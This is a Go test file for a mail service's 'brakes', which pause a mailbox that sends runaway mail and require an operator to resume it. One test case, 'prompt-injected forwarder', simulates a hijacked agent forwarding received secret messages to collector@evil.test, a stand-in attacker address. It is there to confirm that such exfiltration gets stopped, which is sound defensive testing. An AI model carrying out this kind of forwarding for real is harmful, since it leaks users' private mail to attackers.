package service_test

import (
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/mailkin/mailkin/internal/mailbox"
	"github.com/mailkin/mailkin/internal/service"
)

// brakeKit is a service without daily limits whose brakes are on for all.
func brakeKit(t *testing.T) *kit {
	return newService(t, func(o *service.Options) { o.Brakes, o.Limits.DailySends = true, 0 })
}

// until sends with a function until it is refused, with the code of the brakes, and says how many went out.
func (k *kit) until(send func(n int) error) int {
	k.Helper()
	for n := range 100 {
		err := send(n)
		if err == nil {
			k.clock.advance(10 * time.Second)
			continue
		}
		k.kind("stopped", err, mailbox.Denied, "sending_paused")
		return n
	}
	k.Fatal("nothing stopped it")
	return 0
}

// try sends a draft.
func (b box) try(d mailbox.Draft) error {
	b.k.Helper()
	_, err := b.k.svc.Send(b.k.Context(), b.in(mailbox.SendMail), d)
	return err
}

func saying(text string, to ...string) mailbox.Draft {
	d := draftTo(to...)
	d.Subject, d.Text = text, text
	return d
}

// resume lets the mailbox send again, as the operator.
func (b box) resume() service.MailboxRecord {
	b.k.Helper()
	r, err := b.k.svc.ResumeSending(b.k.Context(), b.k.operator(mailbox.ControlMailbox, b.Address))
	b.k.works("resume", err)
	return r
}

// The five runaways, through the whole of the service, on a mailbox that has done nothing before.
func TestRunawaysAreStopped(t *testing.T) {
	for name, run := range map[string]func(k *kit, b box, n int) error{
		"loop": func(k *kit, b box, n int) error {
			id := k.receive(letter(fmt.Sprintf("thanks-%s", word(n))), b.Address)[0].ID
			_, err := k.svc.Reply(k.Context(), b.in(mailbox.SendMail), mailbox.Draft{EmailID: id.String(),
				Text: "And thank you for " + word(n), HasText: true})
			return err
		},
		"address-book blast": func(k *kit, b box, n int) error {
			return b.try(saying("You must see this", fmt.Sprintf("friend%d@other.test", n)))
		},
		"bounce storm": func(k *kit, b box, n int) error {
			err := b.try(saying("Is this you, "+word(n), fmt.Sprintf("guess%d@other.test", n)))
			for _, j := range k.lease() {
				k.finish(j, mailbox.Attempt{Outcome: mailbox.Refused, Code: 550, Text: "no such user", Begun: true})
			}
			return err
		},
		"prompt-injected forwarder": func(k *kit, b box, n int) error {
			id := k.receive(letter(fmt.Sprintf("secret-%s", word(n))), b.Address)[0].ID
			_, err := k.svc.Forward(k.Context(), b.in(mailbox.SendMail), mailbox.Draft{EmailID: id.String(),
				To: []string{"collector@evil.test"}})
			return err
		},
		"stuck retry": func(k *kit, b box, n int) error {
			k.clock.advance(2 * time.Minute)
			return b.try(saying(fmt.Sprintf("The report of %d", n), "boss@other.test"))
		},
	} {
		t.Run(name, func(t *testing.T) {
			k := brakeKit(t)
			b := k.permanent("bo")
			n := k.until(func(n int) error { return run(k, b, n) })
			if n > 20 || n < 5 {
				t.Errorf("%d messages went out", n)
			}
			if got := b.kinds(); got[len(got)-1] != string(mailbox.SendingPaused) {
				t.Errorf("events %v", got)
			}
			t.Logf("%d messages, stopped for %s", n, b.control().SendingPaused.Measure)
		})
	}
}

// control is what is decided about the mailbox.
func (b box) control() mailbox.Control {
	b.k.Helper()
	return b.k.login(b.Key).Mailbox.Control()
}

// What a stopped mailbox has waiting waits, whatever way it would leave; a person lets it go on.
func TestSendingPaused(t *testing.T) {
	k := brakeKit(t)
	b := k.permanent("bo")
	b.send(later2h(k, "ann@other.test"))
	n := k.until(func(n int) error { return b.try(saying("the same", fmt.Sprintf("p%d@other.test", n))) })
	first := b.control().SendingPaused
	if first == nil || first.Reason == "" || !first.At.Equal(k.clock.Now()) {
		t.Fatalf("paused: %+v", first)
	}
	k.clock.advance(3 * time.Hour)
	if jobs := k.lease(); len(jobs) != 0 {
		t.Errorf("%d deliveries left", len(jobs))
	}
	wantCode(t, b.try(draftTo("ann@other.test")), "sending_paused")
	dry := draftTo("ann@other.test")
	dry.DryRun = true
	wantCode(t, b.try(dry), "sending_paused")
	hand := hand{k, b, k.login(b.Key)}
	_, err := hand.submit("From: bo@example.test\r\nSubject: x\r\n\r\nx\r\n", "ann@other.test")
	wantCode(t, err, "sending_paused")
	if now := b.control().SendingPaused; !now.At.Equal(first.At) {
		t.Errorf("paused again: %+v", now)
	}
	me, err := k.svc.Me(t.Context(), b.in(mailbox.KnowSelf))
	k.works("me", err)
	if me.CanSend || me.Paused == nil {
		t.Errorf("me: %+v", me)
	}

	_, err = k.svc.Enter(t.Context(), k.login(b.Key), service.Act{Need: mailbox.ControlMailbox})
	wantCode(t, err, "scope_denied")
	if r := b.resume(); r.Control().SendingPaused != nil || !r.Brakes {
		t.Errorf("resumed: %+v", r)
	}
	if jobs := k.lease(); len(jobs) != n+1 {
		t.Errorf("%d deliveries are due, want %d", len(jobs), n+1)
	}
	b.resume() // again does nothing
	if again := k.until(func(n int) error {
		return b.try(saying("the same", fmt.Sprintf("q%d@other.test", n)))
	}); again <= n {
		t.Errorf("%d messages after a person said that it is all right", again)
	}
	k.same("events", countOf(b.kinds(), string(mailbox.SendingPaused)), 2)
	audits, err := k.svc.Audits(t.Context(), k.operator(mailbox.Moderate, ""),
		service.AuditsQuery{Page: service.Page{Limit: 100}})
	k.works("audits", err)
	var actions []string
	for _, a := range audits.Items {
		if a.Note != "" {
			actions = append(actions, a.Action+" "+a.Actor)
		}
	}
	k.same("audit", actions, []string{"sending.paused ", mailbox.ControlMailbox.String() + " operator",
		"sending.paused "})
	if k.svc.SendingStopped() != 2 {
		t.Errorf("%d counted", k.svc.SendingStopped())
	}
}

func countOf(list []string, one string) (n int) {
	for _, s := range list {
		if s == one {
			n++
		}
	}
	return n
}

// Off is off: nothing is counted, and nothing stops.
func TestBrakesAreOff(t *testing.T) {
	k := newService(t, func(o *service.Options) { o.Limits.DailySends = 0 })
	b := k.permanent("bo")
	for n := range 40 {
		k.works("send", b.try(saying("the same", fmt.Sprintf("p%d@other.test", n))))
	}
	set := func(in service.Access, to mailbox.Switch) error {
		_, err := k.svc.ChangeMailbox(t.Context(), in, service.MailboxChange{
			ControlChange: service.ControlChange{Brakes: &to}})
		return err
	}
	wantCode(t, set(b.in(mailbox.ChangeSettings), mailbox.SwitchOn), "scope_denied")
	k.works("on", set(k.operator(mailbox.ChangeSettings, b.Address), mailbox.SwitchOn))
	k.until(func(n int) error { return b.try(saying("the same", fmt.Sprintf("q%d@other.test", n))) })
	k.works("off", set(k.operator(mailbox.ChangeSettings, b.Address), mailbox.SwitchDefault))
	wantCode(t, b.try(draftTo("ann@other.test")), "sending_paused") // switching them off is no resume
	b.resume()
	for range 40 {
		k.works("send", b.try(draftTo("ann@other.test")))
	}
}

// A request that is repeated with its key counts once.
func TestBrakesCountARequestOnce(t *testing.T) {
	k := brakeKit(t)
	b := k.permanent("bo")
	d := draftTo("ann@other.test")
	d.IdempotencyKey = "again"
	for range 30 {
		k.works("send", b.try(d))
	}
}

// Many at the same moment are no more than one after the other.
func TestBrakesHoldConcurrentSenders(t *testing.T) {
	k := brakeKit(t)
	b := k.permanent("bo")
	in := b.in(mailbox.SendMail)
	var all sync.WaitGroup
	codes := make([]string, 60)
	for n := range codes {
		all.Go(func() {
			_, err := k.svc.Send(t.Context(), in, saying("the same", fmt.Sprintf("p%d@other.test", n)))
			var e *mailbox.Error
			if errors.As(err, &e) {
				codes[n] = e.Code
			}
		})
	}
	all.Wait()
	if sent := countOf(codes, ""); sent > 20 || countOf(codes, "sending_paused") != len(codes)-sent {
		t.Errorf("%v", codes)
	}
	k.same("events", countOf(b.kinds(), string(mailbox.SendingPaused)), 1)
}

// The event goes to the mailbox's webhook, without a message.
func TestSendingPausedIsPosted(t *testing.T) {
	hookBubble(t, always(204, 0), func(h *hookKit) {
		b := h.hooked("bo", "http://hook.test/a")
		on := mailbox.SwitchOn
		_, err := h.svc.ChangeMailbox(h.Context(), h.operator(mailbox.ChangeSettings, b.Address),
			service.MailboxChange{ControlChange: service.ControlChange{Brakes: &on}})
		h.works("brakes", err)
		for b.try(saying("the same", "ann@other.test")) == nil {
		}
		h.pass(time.Minute)
		got := h.bodies(b)
		if len(got) != 1 || !strings.HasPrefix(got[0], `{"event":"mailbox.sending_paused","email_id":"",`) ||
			!strings.Contains(got[0], `"reason":"It sent`) || strings.Contains(got[0], "deleted") {
			t := h.T
			t.Errorf("posted: %v", got)
		}
		if states := h.states(b); states[mailbox.HookDelivered] != 1 {
			h.Errorf("states %v", states)
		}
		if !slices.Contains(b.kinds(), string(mailbox.SendingPaused)) {
			h.Error("it is not in the log")
		}
	})
}
